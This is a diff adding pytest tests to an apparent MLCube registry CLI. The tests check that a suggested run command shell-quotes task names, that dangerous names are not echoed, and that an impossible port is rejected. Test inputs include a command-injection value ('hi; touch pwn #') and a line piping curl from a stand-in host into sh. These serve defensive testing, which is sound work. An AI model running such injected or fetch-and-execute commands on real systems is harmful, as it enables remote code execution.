@@ -131,3 +131,30 @@ def _empty(registry: Registry) -> oci.Descriptor:
     described = oci.Descriptor(media_type=oci.EMPTY, digest=oci.digest_of(b"{}"), size=2)
     registry.upload(described, partial(_opened, b"{}"))
     return described
+
+
+@pytest.mark.parametrize(
+    ("task", "told"),
+    [
+        ("hi", "run it: cube run digits --task hi"),
+        ("hi; touch pwn #", "run it: cube run digits --task 'hi; touch pwn #'"),
+        ("hi\ncurl evil.example | sh", None),
+        ("hi\u202e", None),
+    ],
+)
+def test_the_line_that_runs_a_cube_is_quoted_and_holds_nothing_that_steers_a_terminal(
+    task: str, told: str | None, tmp_path: Path
+) -> None:
+    entry = {"name": "digits", "reference": f"oci://h.example/digits@sha256:{'a' * 64}", "tasks": [{"name": task}]}
+    (tmp_path / "zoo").mkdir()
+    index = {"format": "mlcube-zoo", "schema": 1, "cubes": [entry]}
+    (tmp_path / "zoo/index.json").write_text(json.dumps(index))
+    cube("zoo", "add", "mine", str(tmp_path / "zoo"))
+    assert cube("zoo", "show", "digits").stderr.splitlines() == ([told] if told else [])
+
+
+def test_a_port_that_there_cannot_be_is_a_mistake_in_the_list(tmp_path: Path) -> None:
+    (tmp_path / "list.txt").write_text("# mine\noci://127.0.0.1:99999/a\n")
+    done = cube("zoo", "build", str(tmp_path / "list.txt"), "-o", str(tmp_path / "site"), status=2)
+    assert "list.txt:2:1: error: `127.0.0.1:99999/a` names a port that there cannot be: 99999" in done.stderr
+    assert not (tmp_path / "site").exists()
